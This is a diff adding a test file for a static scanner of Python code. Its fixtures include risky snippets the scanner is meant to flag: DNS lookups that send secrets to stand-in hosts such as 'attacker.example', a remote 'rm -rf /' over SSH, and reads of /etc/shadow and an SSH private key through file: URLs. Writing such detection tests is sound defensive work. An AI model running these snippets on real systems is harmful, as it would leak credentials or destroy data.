@@ -1,0 +1,241 @@
+// The detection families issue 11 added for Python (remote and network capabilities, code execution one
+// would not guess, files and native code): each technique flagged however the object is reached, and the
+// benign code that looks like it left alone.
+import assert from 'node:assert/strict';
+import { check, itFlags, itQuiet } from './helpers';
+
+describe('python families: remote and network capabilities', () => {
+  describe('SSH command execution', () => {
+    itFlags([
+      [
+        'paramiko exec_command on a client in a variable',
+        'import paramiko\nc = paramiko.SSHClient()\nc.connect("h")\nc.exec_command("id")',
+        'command-execution',
+        4,
+      ],
+      [
+        'a destructive remote command',
+        'from paramiko import SSHClient\nssh = SSHClient()\nssh.exec_command("rm -rf /")',
+        'destructive-command',
+        3,
+      ],
+      [
+        'a paramiko channel from the transport',
+        'import paramiko\nt = paramiko.Transport(("h", 22))\nch = t.open_session()\nch.exec_command(cmd)',
+        'command-execution',
+        4,
+      ],
+      [
+        'a channel from the client transport',
+        'import paramiko\nc = paramiko.client.SSHClient()\nc.get_transport().open_session().exec_command(cmd)',
+        'command-execution',
+        3,
+      ],
+      [
+        'fabric Connection.run and sudo',
+        'from fabric import Connection\nconn = Connection("web1")\nconn.sudo("systemctl restart app")',
+        'command-execution',
+        3,
+      ],
+      ['fabric 1 api functions', 'from fabric.api import sudo\nsudo("reboot")', 'command-execution', 2],
+      ['fabric Connection.local', 'import fabric\nfabric.Connection("h").local(cmd)', 'command-execution', 2],
+      ['invoke.run', 'import invoke\ninvoke.run("make deploy")', 'command-execution', 2],
+      ['an invoke Context', 'from invoke import Context\nContext().run("ls")', 'command-execution', 2],
+      [
+        'fabric Connection construction',
+        'from fabric import Connection\nConnection("h")',
+        'network-socket',
+        2,
+      ],
+    ]);
+    itQuiet([
+      ['a method named exec_command on another object', 'db.exec_command("vacuum")\nrunner.run("x")'],
+      ['a local run function', 'def run(cmd):\n    print(cmd)\nrun("ls")'],
+      ['fabric imported but only a task defined', 'from invoke import task\n@task\ndef build(c):\n    pass'],
+    ]);
+  });
+
+  describe('DNS lookups carrying data', () => {
+    itFlags([
+      [
+        'dns.resolver.resolve with a computed name',
+        'import dns.resolver\ndns.resolver.resolve(secret.hex() + ".attacker.example", "TXT")',
+        'network-socket',
+        2,
+      ],
+      [
+        'a Resolver instance',
+        'import dns.resolver\nr = dns.resolver.Resolver()\nr.query(f"{token}.x.example")',
+        'network-socket',
+        3,
+      ],
+      [
+        'aiodns',
+        'import aiodns\nresolver = aiodns.DNSResolver()\nresolver.query(name, "A")',
+        'network-socket',
+        3,
+      ],
+      [
+        'a constant DNS query',
+        'import dns.resolver\ndns.resolver.resolve("example.com", "MX")',
+        'network-socket',
+        2,
+      ],
+      ['socket.getaddrinfo', 'import socket\nsocket.getaddrinfo("example.com", 443)', 'network-socket', 2],
+    ]);
+    itQuiet([['a resolve() method on another object', 'import os\npath.resolve()\nfuture.query(x)']]);
+
+    it('calls a lookup of a computed name exfiltration, and a constant one a lookup', async () => {
+      const computed = await check('import socket\nsocket.gethostbyname(data + ".evil.example")');
+      const constant = await check('import socket\nsocket.gethostbyname("example.com")');
+      const message = (findings: typeof computed): string =>
+        findings.find((f) => f.ruleId === 'network-socket')?.message ?? '';
+      assert.match(message(computed), /exfiltration/);
+      assert.doesNotMatch(message(constant), /exfiltration/);
+    });
+  });
+
+  describe('programs that listen', () => {
+    itFlags([
+      [
+        'flask app.run',
+        'from flask import Flask\napp = Flask(__name__)\napp.run(host="0.0.0.0")',
+        'network-socket',
+        3,
+      ],
+      [
+        'flask app.run(debug=True): the Werkzeug debugger runs code',
+        'import flask\napp = flask.Flask(__name__)\napp.run(debug=True)',
+        'command-execution',
+        3,
+      ],
+      [
+        'a debug flag computed at run time',
+        'from flask import Flask\nFlask(__name__).run(debug=os.environ.get("DEBUG"))',
+        'command-execution',
+        2,
+      ],
+      [
+        'werkzeug run_simple with the debugger',
+        'from werkzeug.serving import run_simple\nrun_simple("0.0.0.0", 5000, app, use_debugger=True)',
+        'command-execution',
+        2,
+      ],
+      [
+        'DebuggedApplication with evalex',
+        'from werkzeug.debug import DebuggedApplication\napp = DebuggedApplication(app, evalex=True)',
+        'command-execution',
+        2,
+      ],
+      [
+        'twisted reactor.listenTCP',
+        'from twisted.internet import reactor\nreactor.listenTCP(8000, factory)\nreactor.run()',
+        'network-socket',
+        2,
+      ],
+      [
+        'SimpleXMLRPCServer under its Python 2 name',
+        'import SimpleXMLRPCServer\nSimpleXMLRPCServer.SimpleXMLRPCServer(("0.0.0.0", 8000))',
+        'network-socket',
+        2,
+      ],
+      ['http.server.test', 'import http.server\nhttp.server.test()', 'network-socket', 2],
+      [
+        'a socketserver Unix server',
+        'import socketserver\nsocketserver.UnixStreamServer(p, H)',
+        'network-socket',
+        2,
+      ],
+      [
+        'wsgiref make_server',
+        'from wsgiref.simple_server import make_server\nmake_server("", 80, app)',
+        'network-socket',
+        2,
+      ],
+      [
+        'asyncio.start_server',
+        'import asyncio\nasync def main():\n    await asyncio.start_server(handle, "0.0.0.0", 8888)',
+        'network-socket',
+        3,
+      ],
+      ['uvicorn.run', 'import uvicorn\nuvicorn.run(app, host="0.0.0.0")', 'network-socket', 2],
+      [
+        'a tornado application',
+        'import tornado.web\napp = tornado.web.Application([])\napp.listen(8888)',
+        'network-socket',
+        3,
+      ],
+    ]);
+    itQuiet([
+      [
+        'a flask app that is only defined',
+        'from flask import Flask\napp = Flask(__name__)\n@app.route("/")\ndef index():\n    return "hi"',
+      ],
+      [
+        'flask app.run(debug=False)',
+        'from flask import Flask\nFlask(__name__).run(debug=False)',
+        'command-execution',
+      ],
+      [
+        'DebuggedApplication without the console',
+        'from werkzeug.debug import DebuggedApplication\nDebuggedApplication(app)',
+      ],
+      ['a run() method on another object', 'loop.run()\nthread.run()\nengine.listen(1)'],
+    ]);
+
+    it('blocks flask debug mode in presets that only report listening', async () => {
+      const code = 'from flask import Flask\napp = Flask(__name__)\napp.run(debug=True)';
+      const findings = await check(code, { config: { preset: 'development' } });
+      const listening = findings.find((f) => f.ruleId === 'network-socket');
+      const debug = findings.find((f) => f.ruleId === 'command-execution');
+      assert.equal(listening?.violation, false);
+      assert.equal(debug?.severity, 'HIGH');
+      assert.equal(debug?.violation, true);
+    });
+  });
+
+  describe('legacy urllib openers and file: URLs', () => {
+    itFlags([
+      ['URLopener', 'import urllib.request\nurllib.request.URLopener().open(u)', 'network-http', 2],
+      [
+        'FancyURLopener.retrieve',
+        'from urllib.request import FancyURLopener\no = FancyURLopener()\no.retrieve(u, "x")',
+        'network-http',
+        3,
+      ],
+      ['urlretrieve', 'import urllib.request\nurllib.request.urlretrieve(u, "f")', 'network-http', 2],
+      [
+        'a file: URL read',
+        'import urllib.request\nurllib.request.urlopen("file:///etc/passwd").read()',
+        'read-outside-workdir',
+        2,
+      ],
+      [
+        'a file URL with a host',
+        'from urllib.request import urlretrieve\nurlretrieve("file://localhost/etc/shadow", "x")',
+        'read-outside-workdir',
+        2,
+      ],
+      [
+        'the local_file: scheme of the legacy opener',
+        'import urllib.request\nurllib.request.URLopener().open("local_file:///root/.ssh/id_rsa")',
+        'read-outside-workdir',
+        2,
+      ],
+      [
+        'a percent-encoded file URL',
+        'import urllib.request\nurllib.request.urlopen("FILE:///%65tc/passwd")',
+        'read-outside-workdir',
+        2,
+      ],
+    ]);
+    itQuiet([
+      [
+        'an https URL',
+        'import urllib.request\nurllib.request.urlopen("https://example.com/a.txt")',
+        'read-outside-workdir',
+      ],
+      ['a file URL in a string', 'url = "file:///etc/passwd"\nprint(url)'],
+    ]);
+  });
+});
